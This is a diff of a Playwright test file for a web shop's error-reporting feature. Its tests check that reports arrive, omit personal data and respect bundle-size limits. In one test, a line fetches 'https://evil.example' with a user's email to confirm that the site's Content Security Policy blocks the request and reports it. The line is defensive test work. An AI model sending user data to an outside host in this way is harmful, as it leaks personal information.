@@ -1,15 +1,52 @@
-import { readFileSync } from 'node:fs'
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
+import { join } from 'node:path'
 import type { Page } from '@playwright/test'
-import { expect } from '#tests/e2e/fixtures.ts'
-import { cards, enterCard } from '#tests/e2e/real/support/cardProvider.ts'
-import { reportUrl, test, type Receiver } from '#tests/e2e/real/support/reportingShop.ts'
+import { mapsOf } from '#src/build/sourceMaps.ts'
+import { expect, test as base } from '#tests/e2e/fixtures.ts'
+import { cardProvider, cards, enterCard, type CardProvider } from '#tests/e2e/real/support/cardProvider.ts'
 import { createAccount, placeOrder } from '#tests/e2e/real/support/world.ts'
-import { gzippedKB, readManifest, scriptsOf } from '#tests/support/bundle.ts'
 import { expectStarted, heading, logIn } from '#tests/e2e/steps.ts'
+import { buildShop, gzippedKB, readManifest, scriptsOf } from '#tests/support/bundle.ts'
+import { serveStatic } from '#tests/support/static.ts'
+import { reportPort } from '#tests/support/testConfig.ts'
+import { startReceiver, type ReceivedReport } from '#tests/tools/reports/receiver.ts'
 
-// One worker: the tests share a build and its receiver.
+const reportUrl = `http://127.0.0.1:${reportPort}/`
+
+/** A production build that reports, its address, and what has arrived from its pages. */
+interface ReportingShop {
+  dir: string
+  url: string
+  received: ReceivedReport[]
+}
+
+/** Playwright's test for a build with VITE_REPORT_URL. Its pages may be noisy: their faults are what is reported. */
+const test = base.extend<{ cardProvider: CardProvider; received: ReceivedReport[] }, { shop: ReportingShop }>({
+  shop: [
+    // oxlint-disable-next-line no-empty-pattern -- Playwright reads a fixture's needs from this pattern
+    async ({}, use) => {
+      const dir = mkdtempSync(join(process.cwd(), 'node_modules', '.cache', 'reporting-'))
+      buildShop(dir, { VITE_REPORT_URL: reportUrl })
+      const received: ReceivedReport[] = []
+      const receiver = await startReceiver(reportPort, (reports) => void received.push(...reports))
+      const host = await serveStatic({ dir, fallback: 'spa' })
+      await use({ dir, url: host.url.replace('localhost', '127.0.0.1'), received })
+      await Promise.all([host.stop(), receiver.stop()])
+      for (const folder of [dir, mapsOf(dir)]) rmSync(folder, { recursive: true })
+    },
+    { scope: 'worker', timeout: 120_000 },
+  ],
+  received: async ({ shop: { received } }, use) => {
+    received.length = 0
+    await use(received)
+  },
+  baseURL: ({ shop }, use) => use(shop.url),
+  quietConsole: undefined,
+  cardProvider,
+})
+
+// One worker: the tests share a build and its receiver. The browser measures what it paints.
 test.describe.configure({ mode: 'default' })
-// The browser measures what it paints.
 test.use({ isPainted: true })
 
 const rina = { name: 'Rina Akter', email: 'rina.akter@reports.example', password: 'Workshop!25' }
@@ -31,24 +68,25 @@ const openFromMenu = (page: Page, link: string) =>
 const throwError = (page: Page, message: string) =>
   page.evaluate((text) => void setTimeout(() => void Promise.reject(new TypeError(text))), message)
 
-/** Expects exactly these reports, and nothing personal in any. */
-async function expectReports(receiver: Receiver, page: Page, ...expected: object[]): Promise<void> {
-  await expect.poll(() => receiver.reports.map(({ type, body }) => ({ type, body }))).toMatchObject(expected)
-  for (const { url, user_agent, age, body } of receiver.reports) {
+/** Expects exactly these reports beside the vitals, and nothing personal in any. */
+async function expectReports(received: ReceivedReport[], ...expected: object[]): Promise<void> {
+  const reports = () => received.filter(({ type }) => type !== 'vitals')
+  await expect.poll(() => reports().map(({ type, body }) => ({ type, body }))).toMatchObject(expected)
+  for (const { url, user_agent, age, body } of reports()) {
     expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/[a-zA-Z/:]*$/)
-    expect(user_agent).toBe(await page.evaluate(() => navigator.userAgent))
+    expect(user_agent).toContain('Mozilla')
     expect(age).toBeGreaterThanOrEqual(0)
     expect(body.release).toMatch(/^[\w.-]+$/)
   }
-  const text = JSON.stringify(receiver.reports.map(({ user_agent: _, ...rest }) => rest))
-  for (const personal of [rina.name, 'Rina', rina.email, rina.password, '_secret_', 'Bearer', '?', cards.good])
+  const text = JSON.stringify(reports().map(({ user_agent: _, ...rest }) => rest))
+  for (const personal of ['Rina', rina.email, rina.password, '_secret_', 'Bearer', '?', cards.good])
     expect(text).not.toContain(personal)
 }
 
 test.describe('a shop that reports', { tag: '@release' }, () => {
   test('an error in a page arrives once, with its place in the shop’s files, without what a person typed', async ({
     page,
-    receiver,
+    received,
   }) => {
     const error = `throw new TypeError('${rina.name} is not a function')`
     await page.route('**/assets/AboutRoute-*.js', (route) =>
@@ -58,17 +96,21 @@ test.describe('a shop that reports', { tag: '@release' }, () => {
     await throwError(page, `${rina.name} is not a function`)
     await throwError(page, `${rina.name} is not a function`)
     const thrown = { type: 'error', body: { source: 'promise', name: 'TypeError', message: '… is not a function' } }
-    await expectReports(receiver, page, thrown)
+    await expectReports(received, thrown)
     await openFromMenu(page, 'About')
     await expect(heading(page, 'This could not be loaded')).toBeVisible()
     const stack = expect.arrayContaining([expect.stringMatching(/^assets\/AboutRoute-[\w-]+\.js:1:\d+$/)])
-    await expectReports(receiver, page, thrown, { type: 'error', body: { source: 'boundary', page: 'about', stack } })
+    const caught = { type: 'error', body: { source: 'boundary', page: 'about', stack } }
+    await expectReports(received, thrown, caught)
+    await page.evaluate((email) => fetch(`https://evil.example/?email=${email}`).then(String, () => null), rina.email)
+    const body = { effectiveDirective: 'connect-src', blockedURL: 'https://evil.example', page: 'about' }
+    await expectReports(received, thrown, caught, { type: 'csp-violation', body })
   })
 
   test('charged but not recorded, then recovered: with the ids by which it can be looked up', async ({
     page,
-    receiver,
-    cardProvider,
+    received,
+    cardProvider: { charges },
   }) => {
     await createAccount(rina)
     const order = await placeOrder(rina, 'brake-rotor-345', 22)
@@ -83,52 +125,29 @@ test.describe('a shop that reports', { tag: '@release' }, () => {
     const transactionId = expect.stringMatching(/^pi_\w+$/)
     const failedCall = { type: 'failed-call', body: { call: 'recordPayment', kind: 'network', status: null } }
     const unrecorded = { type: 'payment', body: { state: 'unrecorded', orderId: order, transactionId } }
-    await expectReports(receiver, page, failedCall, unrecorded)
+    await expectReports(received, failedCall, unrecorded)
 
     await page.unroute('**/api/mypurchase/*')
     await page.goto('./dashboard/mypurchases')
     await expect(page.getByText(/All-Ready Paid/)).toBeVisible()
     const recovered = { type: 'payment', body: { state: 'recovered', orderId: order } }
-    await expectReports(receiver, page, failedCall, unrecorded, recovered)
-    expect(cardProvider.charges).toHaveLength(1)
+    await expectReports(received, failedCall, unrecorded, recovered)
+    expect(charges).toHaveLength(1)
   })
 
-  test('a violation of the page’s policy, by origin', async ({ page, receiver }) => {
-    await open(page, './')
-    await page.evaluate(
-      (email) => fetch(`https://evil.example/collect?email=${email}`).then(String, () => null),
-      rina.email,
-    )
-    const body = { effectiveDirective: 'connect-src', blockedURL: 'https://evil.example', page: 'home' }
-    await expectReports(receiver, page, { type: 'csp-violation', body })
-  })
-
-  test('the vitals of a visit’s first page, when it is left', async ({ browser, reportingSite, receiver }) => {
+  test('the vitals of a visit’s first page, when it is left', async ({ browser, shop: { url }, received }) => {
     const page = await browser.newPage()
-    await open(page, `${reportingSite}parts?q=Rina`)
+    await open(page, `${url}parts?q=Rina`)
     await page.waitForLoadState('networkidle')
-    await page.goto(`${reportingSite}about`)
+    await page.goto(`${url}about`)
     const body = { LCP: expect.any(Number), CLS: expect.any(Number), TTFB: expect.any(Number), page: 'parts' }
-    await expect.poll(() => receiver.vitals).toMatchObject([{ url: `${reportingSite}parts`, body }])
-    await page.goto(`${reportingSite}contact`)
+    await expect.poll(() => received).toMatchObject([{ type: 'vitals', url: `${url}parts`, body }])
+    await page.goto(`${url}contact`)
     await page.close()
-    expect(receiver.vitals).toHaveLength(1)
+    expect(received).toHaveLength(1)
   })
 
-  test('what happens offline arrives when the line is back', async ({ page, context, receiver }) => {
-    await open(page, './contact')
-    await context.setOffline(true)
-    await throwError(page, 'x is not a function')
-    await expect.poll(() => page.evaluate(() => localStorage.getItem('dhruva.reports.v1'))).toContain('is not')
-    expect(receiver.reports).toEqual([])
-    await context.setOffline(false)
-    await expectReports(receiver, page, { type: 'error', body: { name: 'TypeError', page: 'contact' } })
-  })
-
-  test('a blocked receiver changes nothing, and gets the report on the next visit without the blocker', async ({
-    page,
-    receiver,
-  }) => {
+  test('a blocked receiver gets the report on the next visit without the blocker', async ({ page, received }) => {
     await page.route(`${reportUrl}**`, (route) => route.abort('blockedbyclient'))
     await open(page, './')
     await throwError(page, 'x is not a function')
@@ -139,14 +158,15 @@ test.describe('a shop that reports', { tag: '@release' }, () => {
     await page.goto('about:blank')
     await page.unroute(`${reportUrl}**`)
     await page.goto('./about')
-    await expectReports(receiver, page, { type: 'error', body: { name: 'TypeError', page: 'home' } })
+    const thrown = () => received.find(({ type }) => type === 'error')
+    await expect.poll(thrown).toMatchObject({ body: { name: 'TypeError', page: 'home' } })
   })
 
-  test('the first load grows by 0.3 kB, and the rest has 5.5 kB (REPORT-3)', ({ reportingDir }) => {
+  test('the first load grows by 0.3 kB, and the rest has 5.5 kB (REPORT-3)', ({ shop: { dir } }) => {
     expect(readFileSync('dist/_headers', 'utf8')).not.toMatch(/report/i)
-    const firstLoadOf = (dir: string) => gzippedKB(dir, scriptsOf(readManifest(dir), 'index.html'))
-    expect(firstLoadOf(reportingDir) - firstLoadOf('dist')).toBeLessThan(0.3)
-    const rest = Object.entries(readManifest(reportingDir)).find(([key]) => key.endsWith('/sendReports.ts'))
-    expect(gzippedKB(reportingDir, [rest?.[1].file ?? ''])).toBeLessThan(5.5)
+    const firstLoadOf = (folder: string) => gzippedKB(folder, scriptsOf(readManifest(folder), 'index.html'))
+    expect(firstLoadOf(dir) - firstLoadOf('dist')).toBeLessThan(0.3)
+    const rest = Object.entries(readManifest(dir)).find(([key]) => key.endsWith('/sendReports.ts'))
+    expect(gzippedKB(dir, [rest?.[1].file ?? ''])).toBeLessThan(5.5)
   })
 })
